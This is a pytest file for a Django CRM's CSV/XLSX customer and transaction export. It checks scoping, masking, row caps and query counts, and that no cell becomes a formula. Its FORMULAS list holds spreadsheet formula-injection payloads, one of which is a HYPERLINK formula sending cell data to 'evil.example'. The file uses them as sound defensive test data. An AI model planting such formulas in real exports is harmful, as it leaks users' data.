"""CSV/XLSX exports of customers and transactions: scoped, masked, capped, never a formula."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.contrib.messages import get_messages
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from crm.admin.exports import CustomerExportResource, TransactionExportResource
from crm.models import Customer
from crm.spreadsheets import spreadsheet_safe
from tests.factories import CustomerFactory, TransactionFactory, UserFactory

pytestmark = pytest.mark.django_db

CUSTOMER_EXPORT = reverse("admin:crm_customer_export")
TRANSACTION_EXPORT = reverse("admin:crm_transaction_export")
CSV, XLSX = "0", "1"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "==1+1",
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]


def export_form(resource_class, file_format: str, **extra) -> dict:
    prefix = resource_class.__name__.lower()
    data = {"format": file_format, "resource": "0", **extra}
    for field in resource_class().get_export_order():
        data[f"{prefix}_{field}"] = "on"
    return data


def csv_rows(response) -> list[dict]:
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_sheet(response):
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return workbook.active


def auditor():
    """Sees every customer, but not their phones and e-mails whole."""
    user = UserFactory(username="auditor")
    user.user_permissions.add(
        *Permission.objects.filter(
            content_type__app_label="crm",
            codename__in=["view_customer", "view_transaction", "view_all_customers"],
        )
    )
    return user


@pytest.mark.parametrize("value", FORMULAS)
def test_spreadsheet_safe_quotes_every_formula_start(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["王小明", "a=b", "1+1", "", "中-文", 12, None])
def test_spreadsheet_safe_leaves_plain_values(value):
    assert spreadsheet_safe(value) == ("" if value is None else value)


def test_rm_exports_only_own_customers_as_csv(client, rm, other_rm):
    mine = CustomerFactory(owner=rm, name="我的客户")
    CustomerFactory(owner=other_rm, name="别人的客户")
    client.force_login(rm)

    response = client.post(CUSTOMER_EXPORT, export_form(CustomerExportResource, CSV))

    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese
    assert [row["name"] for row in csv_rows(response)] == [mine.name]


def test_export_follows_the_lists_filters(client, supervisor, rm):
    active = CustomerFactory(owner=rm, status=Customer.Status.ACTIVE)
    CustomerFactory(owner=rm, status=Customer.Status.DORMANT)
    client.force_login(supervisor)

    response = client.post(
        f"{CUSTOMER_EXPORT}?status__exact=active", export_form(CustomerExportResource, CSV)
    )

    assert [row["id"] for row in csv_rows(response)] == [str(active.pk)]


def test_phones_and_emails_are_masked_for_users_who_may_not_see_them(client, rm):
    CustomerFactory(owner=rm, phone="+8613800138000", email="zhang.wei@example.com")
    client.force_login(auditor())

    row = csv_rows(client.post(CUSTOMER_EXPORT, export_form(CustomerExportResource, CSV)))[0]

    assert row["phone"] == "138****8000"
    assert row["email"] == "z***@example.com"


def test_phones_and_emails_are_whole_for_users_who_may_see_them(client, rm):
    CustomerFactory(owner=rm, phone="+8613800138000", email="zhang.wei@example.com")
    client.force_login(rm)

    row = csv_rows(client.post(CUSTOMER_EXPORT, export_form(CustomerExportResource, CSV)))[0]

    # E.164 starts with "+": quoted like any other cell a spreadsheet would compute.
    assert row["phone"] == "'+8613800138000"
    assert row["email"] == "zhang.wei@example.com"


def test_csv_export_never_writes_a_formula(client, rm):
    for name in FORMULAS:
        CustomerFactory(owner=rm, name=name)
    client.force_login(rm)

    rows = csv_rows(client.post(CUSTOMER_EXPORT, export_form(CustomerExportResource, CSV)))

    assert sorted(row["name"] for row in rows) == sorted("'" + name for name in FORMULAS)
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", cell


def test_xlsx_export_never_writes_a_formula(client, rm):
    for name in FORMULAS:
        customer = CustomerFactory(owner=rm, name=name)
        TransactionFactory(customer=customer, merchant=name, amount=Decimal("88.00"))
    client.force_login(rm)

    for url, resource in (
        (CUSTOMER_EXPORT, CustomerExportResource),
        (TRANSACTION_EXPORT, TransactionExportResource),
    ):
        sheet = xlsx_sheet(client.post(url, export_form(resource, XLSX)))
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert cells
        assert all(cell.data_type != "f" for cell in cells)
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert all(text[0] not in "=+-@\t\r" for text in texts if text)
        assert "'" + FORMULAS[0] in texts


def test_transaction_export_is_scoped_to_visible_customers(client, rm, other_rm):
    mine = TransactionFactory(customer=CustomerFactory(owner=rm), merchant="全家便利店")
    TransactionFactory(customer=CustomerFactory(owner=other_rm), merchant="别人的商户")
    client.force_login(rm)

    rows = csv_rows(client.post(TRANSACTION_EXPORT, export_form(TransactionExportResource, CSV)))

    assert [(row["id"], row["merchant"], row["amount"]) for row in rows] == [
        (str(mine.pk), "全家便利店", "128.50")
    ]


def test_export_is_capped_and_says_so(client, rm, settings):
    settings.CRM_EXPORT_MAX_ROWS = 3
    CustomerFactory.create_batch(5, owner=rm)
    client.force_login(rm)

    page = client.get(CUSTOMER_EXPORT).content.decode()
    response = client.post(CUSTOMER_EXPORT, export_form(CustomerExportResource, CSV))

    assert "first 3 rows only" in page
    assert len(csv_rows(response)) == 3
    assert any("first 3 rows only" in str(m) for m in get_messages(response.wsgi_request))


def test_export_page_counts_the_rows_to_come(client, rm):
    CustomerFactory.create_batch(2, owner=rm)
    client.force_login(rm)

    assert "2 rows will be exported" in client.get(CUSTOMER_EXPORT).content.decode()


def test_export_query_count_does_not_grow_with_rows(client, rm):
    CustomerFactory.create_batch(3, owner=rm)
    client.force_login(rm)
    with CaptureQueriesContext(connection) as few:
        client.post(CUSTOMER_EXPORT, export_form(CustomerExportResource, CSV))
    CustomerFactory.create_batch(30, owner=rm)
    with CaptureQueriesContext(connection) as many:
        client.post(CUSTOMER_EXPORT, export_form(CustomerExportResource, CSV))

    assert len(few) == len(many)


def test_transaction_export_query_count_does_not_grow_with_rows_or_refunds(client, rm):
    customer = CustomerFactory(owner=rm)
    TransactionFactory(customer=customer)
    client.force_login(rm)
    with CaptureQueriesContext(connection) as few:
        client.post(TRANSACTION_EXPORT, export_form(TransactionExportResource, CSV))
    for _ in range(5):
        original = TransactionFactory(customer=CustomerFactory(owner=rm))
        TransactionFactory(
            customer=original.customer, kind="refund", refund_of=original, amount=Decimal("1")
        )
    with CaptureQueriesContext(connection) as many:
        response = client.post(TRANSACTION_EXPORT, export_form(TransactionExportResource, CSV))

    assert len(few) == len(many)
    refunds = [row for row in csv_rows(response) if row["kind"] == "refund"]
    assert len(refunds) == 5
    assert all(row["refund_of"] and row["customer"] for row in refunds)


def test_posted_item_ids_are_refused_not_looked_up(client, rm, other_rm):
    theirs = CustomerFactory(owner=other_rm)
    client.force_login(rm)

    response = client.post(
        CUSTOMER_EXPORT, export_form(CustomerExportResource, CSV, export_items=[theirs.pk])
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")  # the form again, no file


def test_customer_and_transaction_admins_have_no_import(client, supervisor):
    client.force_login(supervisor)
    for url_name in ("admin:crm_customer_changelist", "admin:crm_transaction_changelist"):
        page = client.get(reverse(url_name)).content.decode()
        assert "export/" in page
        assert "/import/" not in page


def test_user_without_view_permission_cannot_export(client):
    client.force_login(UserFactory(username="nobody"))
    assert client.get(CUSTOMER_EXPORT).status_code == 403
